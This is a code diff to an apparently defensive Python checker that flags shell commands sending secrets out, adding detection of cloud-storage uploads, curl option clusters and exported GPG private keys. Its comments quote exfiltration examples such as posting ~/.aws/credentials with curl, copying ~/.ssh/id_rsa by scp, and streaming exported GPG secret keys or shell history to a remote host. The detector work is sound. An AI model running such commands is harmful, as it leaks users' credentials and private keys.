@@ -94,7 +94,11 @@ def substituted_secret(sub: str) -> str | None:
         return SECRET_PRINTERS[first[0]]
     if first[0] in _PRINTERS:
         return next((w for w in first[1:] if secret_in(w)), None)
-    return None
+    return _printed_secret(Cmd(first[0].rsplit("/", 1)[-1], first[1:])) or (
+        "your private gpg keys"
+        if first[0] in ("gpg", "gpg2") and any(w.startswith("--export-secret") for w in first)
+        else None
+    )
 
 
 def _printed_secret(cmd: Cmd) -> str | None:
@@ -140,7 +144,13 @@ def network_sink(cmd: Cmd) -> str | None:
         if cmd.name == "openssl" and cmd.args[:1] != ["s_client"]:
             return None
         return f"{cmd.name} {' '.join(cmd.operands[:2])}"
-    if cmd.name in ("curl", "wget", "http", "https", "xh") and any(_UPLOAD_OPTS.match(a) for a in cmd.args):
+    if cmd.name in ("curl", "wget", "http", "https", "xh") and any(_upload_opt(cmd, a) for a in cmd.args):
+        return f"{cmd.name} (an upload)"
+    if cmd.name in FETCHERS and cmd.from_stdin:
+        return f"{cmd.name} (what it is fed goes into the address)"  # `… | xargs -I{} curl "https://h/?d={}"`
+    if cmd.name == "aws" and cmd.args[:1] == ["s3"] and any(o.startswith("s3://") for o in cmd.operands[2:]):
+        return "aws s3 (an upload)"
+    if cmd.name in ("gsutil", "rclone") and any(re.match(r"(?:gs://|[\w-]+:)", o) for o in cmd.operands[2:]):
         return f"{cmd.name} (an upload)"
     if cmd.name in ("scp", "rsync", "sftp") and any(_remote_operand(o) for o in cmd.operands[1:]):
         return next(o for o in cmd.operands[1:] if _remote_operand(o))
@@ -151,20 +161,31 @@ def network_sink(cmd: Cmd) -> str | None:
     return None
 
 
+def _upload_opt(cmd: Cmd, a: str) -> re.Match | None:
+    """An option that uploads, also at the end of curl's short cluster (`-sT -`, `-sF f=@x`)."""
+    if cmd.name == "curl" and (m := re.fullmatch(r"-[a-zA-Z]*([dFT])", a)):
+        return _UPLOAD_OPTS.match("-" + m.group(1))
+    return _UPLOAD_OPTS.match(a)
+
+
 def uploaded_secret(cmd: Cmd) -> str | None:
     """A secret file this one command sends out (`curl -d @~/.aws/credentials`, `scp ~/.ssh/id_rsa h:`)."""
     if not network_sink(cmd):
         return None
     args = cmd.args
     for k, a in enumerate(args):
-        m = _UPLOAD_OPTS.match(a)
+        m = _upload_opt(cmd, a)
         value = m.group(1) if m and m.group(1) is not None else args[k + 1] if m and k + 1 < len(args) else None
+        substituted = value is not None and (value == "@" or "<(" in value or "$(" in value or "…" in value)
+        # `--data-binary @<(gpg --export-secret-keys)`: what the substitution prints is sent
+        if substituted and (s := next((found for sub in cmd.subs if (found := substituted_secret(sub))), None)):
+            return s
         file_arg = value is not None and (
             value.startswith("@") or "=@" in value or a.split("=", 1)[0] in ("-T", "--upload-file", "--post-file")
         )
         if file_arg and (s := secret_in(value or "")):
             return s
-    if cmd.name in ("scp", "rsync", "sftp"):
+    if cmd.name in ("scp", "rsync", "sftp", "aws", "gsutil", "rclone"):
         return next((s for o in cmd.operands[:-1] if (s := secret_in(o))), None)
     if cmd.name == "socat":  # `socat -u FILE:~/.bash_history TCP:host:port`: one address reads, one sends
         files = [a.split(":", 1)[1].split(",")[0] for a in cmd.operands if re.match(r"(?i)(?:g?open|file|create):", a)]
@@ -241,7 +262,9 @@ def copy_targets(cmd: Cmd) -> list[str]:
 
 def located(cmd: Cmd) -> list[str]:
     """Programs its words look up where they are installed: `$(which bash)`, `(command -v python3)`."""
-    found = (re.fullmatch(r"\s*(?:command\s+-v|which|type\s+-[pP])\s+(\S+)\s*", sub) for sub in cmd.subs)
+    found = (
+        re.fullmatch(r"\s*(?:command\s+(?:-[vs]|--search)|which|type\s+-[pP])\s+(\S+)\s*", sub) for sub in cmd.subs
+    )
     return [m.group(1) for m in found if m]
 
 
